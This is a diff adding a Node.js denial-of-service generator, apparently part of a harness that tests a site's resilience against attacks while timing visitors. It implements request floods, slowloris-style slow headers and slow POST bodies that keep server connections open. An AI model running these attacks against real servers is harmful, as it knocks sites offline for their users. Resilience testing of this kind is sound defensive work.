@@ -1,0 +1,87 @@
+// An attack from one address, in a process of its own: what it costs is not taken from the visitors who are timed. Its one argument
+// says what to do; asked to end, it prints how it was answered, by status.
+import http from 'node:http';
+import https from 'node:https';
+import { connect } from 'node:net';
+import { setPriority } from 'node:os';
+import { connect as connectTls } from 'node:tls';
+
+/** A connection that was refused or closed is opened anew after so long. */
+const AGAIN_MS = 250;
+const DRIP_MS = 1_000;
+
+const { kind, count, url, host, path, formPath, headers, localAddress } = JSON.parse(process.argv[2]);
+const { protocol, hostname, port } = new URL(url);
+const isTls = protocol === 'https:';
+// An attacker has machines of his own; here he shares two cores with the site, and takes what is left of them.
+setPriority(19);
+
+const answered = {};
+const note = (what) => {
+  answered[what] = (answered[what] ?? 0) + 1;
+};
+
+function loops() {
+  const options = { keepAlive: true, localAddress, rejectUnauthorized: false, servername: 'localhost' };
+  const agent = new (isTls ? https : http).Agent({ ...options, maxSockets: count });
+  const ask = () =>
+    new Promise((done) => {
+      const request = (isTls ? https : http).get(
+        { hostname, port, path, agent, headers: { Host: host, ...headers } },
+        (answer) => {
+          note(answer.statusCode);
+          answer.resume();
+          answer.once('close', done);
+        },
+      );
+      request.once('error', () => {
+        note('closed');
+        setTimeout(done, AGAIN_MS);
+      });
+    });
+  const loop = async () => {
+    for (;;) await ask();
+  };
+  for (let at = 0; at < count; at += 1) void loop();
+}
+
+const lines = (first) =>
+  [first, `Host: ${host}`, ...Object.entries(headers).map(([name, value]) => `${name}: ${value}`)].join('\r\n');
+
+/** Connections that say something once, and then a little at a time for as long as they may. */
+function slow(opening, drop) {
+  const open = new Set();
+  const start = () => {
+    const at = { host: hostname, port, localAddress, rejectUnauthorized: false, servername: 'localhost' };
+    const socket = isTls ? connectTls(at, () => socket.write(opening)) : connect(at, () => socket.write(opening));
+    open.add(socket);
+    socket.on('error', () => undefined);
+    socket.once('data', (piece) => note(piece.toString('latin1').slice(9, 12)));
+    socket.once('close', () => {
+      note('closed');
+      open.delete(socket);
+      setTimeout(start, AGAIN_MS);
+    });
+  };
+  for (let at = 0; at < count; at += 1) start();
+  setInterval(() => {
+    for (const socket of open) if (socket.writable) socket.write(drop);
+  }, DRIP_MS);
+}
+
+const KINDS = {
+  loops,
+  'slow headers': () => slow(`${lines(`GET ${path} HTTP/1.1`)}\r\n`, 'X-A: b\r\n'),
+  'slow bodies': () =>
+    slow(
+      `${lines(`POST ${formPath} HTTP/1.1`)}\r\nOrigin: ${protocol}//${host}\r\n` +
+        'Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 9000\r\n\r\n',
+      'a',
+    ),
+};
+KINDS[kind]();
+process.once('SIGTERM', () => {
+  process.stdout.write(JSON.stringify(answered));
+  process.exit();
+});
+console.error('begun');
